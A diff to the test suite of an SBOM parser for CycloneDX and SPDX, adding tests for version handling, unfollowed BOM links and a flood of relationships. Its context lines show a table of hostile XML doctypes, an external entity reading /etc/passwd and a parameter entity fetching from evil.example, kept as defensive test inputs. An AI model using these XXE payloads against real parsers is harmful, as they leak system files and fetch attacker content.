@@ -104,6 +104,34 @@ def test_xml_and_json_of_one_bom_read_alike() -> None:
     assert "cyclic-dependencies" in codes(found)
 
 
+@pytest.mark.parametrize("spec", cyclonedx.SUPPORTED)
+def test_every_version_we_name_is_read_in_both_forms(spec: str) -> None:
+    written = bom({"name": "a", "version": "1", "purl": "pkg:pypi/a@1"}, specVersion=spec)
+    marked = cyclonedx.loads(XML.format(version=spec).encode("utf-16"))
+
+    assert (written.spec_version, marked.spec_version) == (spec, spec)
+    assert written.components[0].purl == marked.components[0].purl
+
+
+def test_a_link_to_another_bom_is_text_and_is_not_followed() -> None:
+    link = "urn:cdx:f08a6ccd-4dce-4759-bd84-c626675d60a7/1#a"
+
+    found = bom(
+        {"bom-ref": "r", "name": "a", "version": "1", "externalReferences": [{"type": "bom", "url": link}]},
+        dependencies=[{"ref": "r", "dependsOn": [link]}],
+    )
+
+    assert (len(found.components), found.defects) == (1, ())
+
+
+def test_a_hundred_thousand_relationships_cost_nothing_and_bring_nothing() -> None:
+    line = "Relationship: SPDXRef-a DEPENDS_ON SPDXRef-a\n"
+
+    found = spdx.loads(f"SPDXVersion: SPDX-2.2\nPackageName: a\nPackageVersion: 1\n{line * 100_000}".encode())
+
+    assert [(one.name, one.version) for one in found.components] == [("a", "1")]
+
+
 DOCTYPES = {
     "an external entity": '<!DOCTYPE bom [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
     "a parameter entity": '<!DOCTYPE bom [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
